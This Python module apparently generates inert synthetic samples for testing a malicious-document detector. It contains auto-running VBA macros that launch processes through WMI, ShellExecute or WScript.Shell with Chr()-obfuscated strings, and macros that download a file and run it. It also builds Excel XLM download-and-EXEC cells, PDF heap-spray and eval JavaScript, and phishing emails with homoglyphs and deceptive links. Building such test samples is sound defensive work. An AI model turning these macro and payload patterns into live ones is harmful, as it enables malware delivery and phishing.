"""Pairs of synthetic documents for the semantic features: the same carrier with and without one
behaviour (a WMI or CallByName launcher, string pieces, an XLM download, a heap-spray script, a
phishing message). Not registered as templates: the tests build each shape on purpose.

Inert like the rest of `maldoc.samples`: commands are `cmd /c rem` comments, URLs use reserved hosts,
the "spray" strings are runs of one harmless escape and nothing is ever run.
"""

from __future__ import annotations

import random

from maldoc.samples import mail, oledoc, ooxml, ovba, text
from maldoc.samples.pdf import PDF, literal, text_page_content

WORD_BASE = "1Normal.ThisDocument"


# --- VBA -----------------------------------------------------------------------------------------

def _pieces(rng: random.Random, s: str) -> str:
    """`s` as a VBA expression of short literals and Chr() calls joined by &."""
    parts, i = [], 0
    while i < len(s):
        n = rng.randint(1, 4)
        chunk = s[i:i + n]
        parts.append(f"Chr({ord(chunk)})" if n == 1 else '"' + chunk.replace('"', '""') + '"')
        i += n
    return " & ".join(parts)


def vba_code(rng: random.Random, kind: str, *, auto: bool = True) -> str:
    """Macro source of one shape. kind: wmi, callbyname, pieces, download, benign_fso, benign_class."""
    entry = "Sub Document_Open()" if auto else f"Sub {text.ident(rng, 6, 10)}()"
    cmd = "cmd /c rem " + text.inert_url(rng, ext=".txt")
    if kind == "wmi":  # the moniker and class built from pieces, then Win32_Process.Create
        body = [f"    Set p = GetObject({_pieces(rng, 'winmgmts:Win32_Process')})",
                f'    r = p.Create("{cmd}", Null, Null, pid)']
    elif kind == "callbyname":
        body = [f"    Set o = CreateObject({_pieces(rng, 'Shell.Application')})",
                f'    CallByName o, {_pieces(rng, "ShellExecute")}, VbMethod, "cmd", "/c rem x", "", "open", 0']
    elif kind == "pieces":
        body = [f"    Set o = CreateObject({_pieces(rng, 'WScript.Shell')})",
                f"    o.Run {_pieces(rng, cmd)}, 0, False"]
    elif kind == "download":
        url = text.inert_url(rng, ext=".dat")
        body = ['    Set h = CreateObject("MSXML2.XMLHTTP")', f'    h.Open "GET", "{url}", False', "    h.Send",
                '    Set s = CreateObject("ADODB.Stream")', "    s.Type = 1: s.Open: s.Write h.responseBody",
                '    s.SaveToFile Environ("TEMP") & "\\u.txt", 2', f'    Shell "{cmd}", vbHide']
    elif kind == "benign_fso":  # writes a log file, starts nothing
        body = ['    Set fs = CreateObject("Scripting.FileSystemObject")',
                '    Set t = fs.CreateTextFile(ThisDocument.Path & "\\log.txt", True)',
                '    t.WriteLine "Opened " & Now', "    t.Close"]
    elif kind == "benign_class":  # a class's Initialize is not a document trigger
        return "\n".join(["Private Sub Class_Initialize()", '    Set http = CreateObject("WinHttp.WinHttpRequest.5.1")',
                          "End Sub", "Public Sub Launch(p As String)", "    Shell p, vbNormalFocus", "End Sub"])
    else:
        raise ValueError(f"unknown VBA shape {kind!r}")
    return "\n".join([entry, *body, "End Sub"])


def vba_doc(rng: random.Random, code: str) -> bytes:
    """A Word 97 document whose project holds `code` in a standard module."""
    modules = [ovba.Module("ThisDocument", "", document=True, base=WORD_BASE), ovba.Module("Module1", code)]
    return oledoc.doc("\n".join(text.paragraphs(rng, 2)), modules, oledoc.project_id(rng.randbytes(16)))


# --- XLM -----------------------------------------------------------------------------------------

def xlm_workbook(rng: random.Random, *, auto: bool, download: bool, char_formula: bool, lolbin: bool = False) -> bytes:
    """An .xlsm with one macro sheet: CALL(urlmon) download or a plain ALERT, optionally run by
    Auto_Open, optionally writing a CHAR()-built formula with FORMULA(), optionally naming mshta."""
    url = text.inert_url(rng, ext=".dat")
    cells: list[tuple[str, str | float]] = []
    if download:
        cells.append(("A1", f'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"{url}","C:\\Users\\Public\\a.dat",0,0)'))
        cells.append(("A2", 'EXEC("cmd /c rem C:\\Users\\Public\\a.dat")'))
    else:
        cells.append(("A1", 'ALERT("Totals updated")'))
    if char_formula:
        cells.append(("A3", "FORMULA(CHAR(61)&CHAR(72)&CHAR(65)&CHAR(76)&CHAR(84)&CHAR(40)&CHAR(41),A5)"))
    if lolbin:
        cells.append(("A4", f'EXEC("mshta {url}")'))
    cells.append(("A6", "RETURN()"))
    sheets = [ooxml.Sheet("Sheet1", [("A1", "Quarterly totals")]), ooxml.Sheet("Macro1", cells, macro=True)]
    return ooxml.excel(sheets, auto_open="Macro1!$A$1" if auto else "")


# --- PDF JavaScript ------------------------------------------------------------------------------

def pdf_js(rng: random.Random, kind: str) -> bytes:
    """A one-page PDF whose /OpenAction runs a script of one shape: spray, doubling, export, stash, form."""
    if kind == "spray":  # a long run of one %u unit (a NOP-slide shape), kept in a string, never used
        js = f"var s = unescape('{'%u0c0c' * 64}');"
    elif kind == "doubling":  # a block doubled in a large loop, and arrays filled
        js = "var b = unescape('%u9090'); var a = new Array();\n" \
             "while (b.length < 0x40000) b += b;\nfor (var i = 0; i < 20000; i++) { a[i] = b.substr(0, 8); }"
    elif kind == "export":
        js = "this.exportDataObject({ cName: 'report.txt', nLaunch: 0 });"
    elif kind == "stash":  # the code kept in the document's metadata and fed to eval
        js = "var c = this.info.subject; eval(c);"
    elif kind == "form":  # form arithmetic: the benign shape
        js = "var f = this.getField('total'); f.value = this.getField('a').value + this.getField('b').value;"
    else:
        raise ValueError(f"unknown PDF script shape {kind!r}")
    pdf = PDF()
    catalog, pages, page = pdf.reserve(), pdf.reserve(), pdf.reserve()
    content = pdf.stream(text_page_content(text.paragraphs(rng, 1)[0][:80].split("\n")))
    action = pdf.add(f"<< /Type /Action /S /JavaScript /JS {literal(js)} >>")
    pdf.set(page, f"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 612 792] /Contents {content} 0 R >>")
    pdf.set(pages, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {pages} 0 R /OpenAction {action} 0 R >>")
    return pdf.to_bytes(catalog)


# --- Mail ----------------------------------------------------------------------------------------

def phish_mail(rng: random.Random, kind: str) -> bytes:
    """A message of one shape: anchor (text shows one domain, href another), lure (account wording, a
    link elsewhere), homoglyph (Cyrillic letters in Latin words), script_link, lure_attachment, link_only
    (a body that is one link), and plain (a colleague's note linking to the sender's own site)."""
    sender = "Service Desk <support@mail.example.com>"
    to = "reader@example.org"
    body, html, attachments = "Hello,\nplease see below.\n", "", []
    if kind == "anchor":
        html = ('<html><body><p>Your statement is ready.</p>'
                '<a href="https://login.example.net/s">https://www.example.com/statement</a></body></html>')
    elif kind == "lure":
        body = ("Unusual sign-in activity was detected. Verify your account within 24 hours or your account "
                "will be suspended. Click here: https://secure.example.net/verify\n")
    elif kind == "homoglyph":
        body = "Dеar customer, your PаyPаl аccount needs аttention. Plеase updаte your dеtails.\n"
    elif kind == "script_link":
        html = '<html><body><a href="javascript:void(0)">Open the document</a></body></html>'
    elif kind == "lure_attachment":
        attachments = [("Invoice_2291.html", b"<html><body><form action='https://example.net/p'></form></body></html>")]
    elif kind == "link_only":
        body = "https://docs.example.net/view?id=" + str(rng.randrange(10**6)) + "\n"
    elif kind == "plain":
        body = ("Hi all,\nthe minutes of Tuesday's meeting are on our site, with the action items and the dates "
                "agreed for the next two sessions: https://www.example.com/minutes/2024-05\nThanks, Anna\n")
    else:
        raise ValueError(f"unknown mail shape {kind!r}")
    subject = "Document" if kind == "link_only" else text.stem(rng)
    return mail.message(rng, sender=sender, to=to, subject=subject, body=body, html=html,
                        attachments=attachments)
